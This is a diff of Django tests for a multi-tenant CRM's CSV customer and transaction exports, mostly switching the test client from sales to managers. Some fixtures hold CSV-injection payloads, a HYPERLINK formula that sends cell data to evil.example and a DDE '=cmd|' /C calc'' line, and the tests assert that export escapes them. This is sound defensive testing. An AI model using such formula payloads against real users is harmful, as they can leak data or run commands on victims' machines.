@@ -94,12 +94,12 @@ def test_a_formula_in_a_list_value_is_neutralised():
     assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?""&E2)|vip"\r\n'
 
 
-def test_customer_export_escapes_formula_cells(tenant, sales_client):
+def test_customer_export_escapes_formula_cells(tenant, manager_client):
     CustomerFactory(
         tenant=tenant, first_name="=cmd|' /C calc'!A0", last_name="@Kaya", external_id="M1"
     )
 
-    response = sales_client.get(url("export", tenant))
+    response = manager_client.get(url("export", tenant))
 
     assert response.status_code == 200
     assert response.streaming
@@ -110,10 +110,10 @@ def test_customer_export_escapes_formula_cells(tenant, sales_client):
     assert row["last_name"] == "'@Kaya"
 
 
-def test_customer_export_is_utf8_with_bom_and_semicolons_by_default(tenant, sales_client):
+def test_customer_export_is_utf8_with_bom_and_semicolons_by_default(tenant, manager_client):
     CustomerFactory(tenant=tenant, first_name="Şükrü", last_name="Iğdırlı", external_id="M1")
 
-    response = sales_client.get(url("export", tenant))
+    response = manager_client.get(url("export", tenant))
     body = b"".join(response.streaming_content)
 
     assert response["Content-Type"] == "text/csv; charset=utf-8"
@@ -123,15 +123,15 @@ def test_customer_export_is_utf8_with_bom_and_semicolons_by_default(tenant, sale
     assert "Şükrü;Iğdırlı" in body.decode("utf-8-sig")
 
 
-def test_customer_export_comma_format(tenant, sales_client):
+def test_customer_export_comma_format(tenant, manager_client):
     CustomerFactory(tenant=tenant, first_name="Ali", external_id="M1")
 
-    body = b"".join(sales_client.get(url("export", tenant) + "?format=comma").streaming_content)
+    body = b"".join(manager_client.get(url("export", tenant) + "?format=comma").streaming_content)
 
     assert body.decode("utf-8-sig").startswith("external_id,kind,first_name,")
 
 
-def test_customer_export_honours_the_list_filters(tenant, sales_client):
+def test_customer_export_honours_the_list_filters(tenant, manager_client):
     CustomerFactory(tenant=tenant, external_id="A1", lifecycle_stage="active")
     CustomerFactory(tenant=tenant, external_id="A2", lifecycle_stage="active")
     CustomerFactory(tenant=tenant, external_id="P1", lifecycle_stage="prospect")
@@ -139,23 +139,25 @@ def test_customer_export_honours_the_list_filters(tenant, sales_client):
         tenant=tenant, external_id="X1", lifecycle_stage="active", archived_at=timezone.now()
     )
 
-    rows = response_rows(sales_client.get(url("export", tenant) + "?lifecycle_stage=active&page=3"))
+    rows = response_rows(
+        manager_client.get(url("export", tenant) + "?lifecycle_stage=active&page=3")
+    )
 
     assert sorted(row[0] for row in rows[1:]) == ["A1", "A2"]
 
 
 def test_customer_export_never_includes_another_tenants_customers(
-    tenant, other_tenant, sales_client
+    tenant, other_tenant, manager_client
 ):
     CustomerFactory(tenant=tenant, external_id="OURS")
     CustomerFactory(tenant=other_tenant, external_id="THEIRS")
 
-    rows = response_rows(sales_client.get(url("export", tenant)))
+    rows = response_rows(manager_client.get(url("export", tenant)))
 
     assert [row[0] for row in rows[1:]] == ["OURS"]
 
 
-def test_exported_customers_import_back_unchanged(tenant, sales_client, tmp_path, settings):
+def test_exported_customers_import_back_unchanged(tenant, manager_client, tmp_path, settings):
     from django_scopes import scope
 
     from customers.models import ImportKind
@@ -166,7 +168,7 @@ def test_exported_customers_import_back_unchanged(tenant, sales_client, tmp_path
         tenant=tenant, external_id="M1", email="a@example.com", phone="+905321234567",
         tags=["vip"], consent_sms=True,
     )  # fmt: skip
-    body = b"".join(sales_client.get(url("export", tenant)).streaming_content)
+    body = b"".join(manager_client.get(url("export", tenant)).streaming_content)
 
     with scope(tenant=tenant):
         job = run_import(tenant, ImportKind.CUSTOMERS, body, tmp_path)
@@ -175,7 +177,7 @@ def test_exported_customers_import_back_unchanged(tenant, sales_client, tmp_path
 
 
 def test_a_formula_tag_is_exported_as_text_and_imports_back_unchanged(
-    tenant, sales_client, tmp_path, settings
+    tenant, manager_client, tmp_path, settings
 ):
     from django_scopes import scope
 
@@ -186,7 +188,7 @@ def test_a_formula_tag_is_exported_as_text_and_imports_back_unchanged(
     CustomerFactory(
         tenant=tenant, external_id="M1", tags=['=HYPERLINK("http://evil.example/?"&E2)', "vip"]
     )
-    response = sales_client.get(url("export", tenant))
+    response = manager_client.get(url("export", tenant))
     body = b"".join(response.streaming_content)
     rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
 
@@ -198,7 +200,7 @@ def test_a_formula_tag_is_exported_as_text_and_imports_back_unchanged(
     assert (job.rejected_rows, job.updated_rows, job.unchanged_rows) == (0, 0, 1), job.rejections
 
 
-def test_transaction_export_filters_by_date_range_in_the_tenant_zone(tenant, sales_client):
+def test_transaction_export_filters_by_date_range_in_the_tenant_zone(tenant, manager_client):
     customer = CustomerFactory(tenant=tenant, external_id="M1", first_name="Ali", last_name="Kaya")
     for external_id, day, hour in (("S1", 1, 10), ("S2", 2, 0), ("S3", 3, 23), ("S4", 4, 0)):
         TransactionFactory(
@@ -207,7 +209,7 @@ def test_transaction_export_filters_by_date_range_in_the_tenant_zone(tenant, sal
         )  # fmt: skip
     TransactionFactory(external_id="OTHER", occurred_at=datetime(2024, 3, 2, tzinfo=ISTANBUL))
 
-    response = sales_client.get(
+    response = manager_client.get(
         url("export_transactions", tenant) + "?date_from=2024-03-02&date_to=2024-03-03"
     )
 
@@ -218,8 +220,8 @@ def test_transaction_export_filters_by_date_range_in_the_tenant_zone(tenant, sal
     assert rows[1][-1] == "Ali Kaya"
 
 
-def test_transaction_export_rejects_an_inverted_range(tenant, sales_client):
-    response = sales_client.get(
+def test_transaction_export_rejects_an_inverted_range(tenant, manager_client):
+    response = manager_client.get(
         url("export_transactions", tenant) + "?date_from=2024-03-05&date_to=2024-03-01"
     )
 
@@ -245,8 +247,8 @@ def test_list_header_shows_import_only_to_managers(tenant, sales_client, manager
     assert url("export", tenant) + "?lifecycle_stage=active&amp;format=semicolon" in manager_page
 
 
-def test_sales_can_open_the_transaction_export_form(tenant, sales_client):
-    response = sales_client.get(url("export_transactions_form", tenant))
+def test_managers_can_open_the_transaction_export_form(tenant, manager_client):
+    response = manager_client.get(url("export_transactions_form", tenant))
 
     assert response.status_code == 200
     assert url("export_transactions", tenant) in response.text
@@ -256,9 +258,9 @@ def test_transaction_export_form_is_404_for_another_tenants_member(tenant, other
     assert other_tenant_client.get(url("export_transactions_form", tenant)).status_code == 404
 
 
-def test_filtering_the_list_with_htmx_refreshes_the_export_link(tenant, sales_client):
+def test_filtering_the_list_with_htmx_refreshes_the_export_link(tenant, manager_client):
     url = reverse("customers:list", kwargs={"tenant_slug": tenant.slug})
-    response = sales_client.get(url, {"region": "Ege"}, HTTP_HX_REQUEST="true")
+    response = manager_client.get(url, {"region": "Ege"}, HTTP_HX_REQUEST="true")
     body = response.content.decode()
     assert 'id="customer-list-actions" class="d-flex flex-wrap gap-2" hx-swap-oob="true"' in body
     assert "region=Ege&amp;format=semicolon" in body
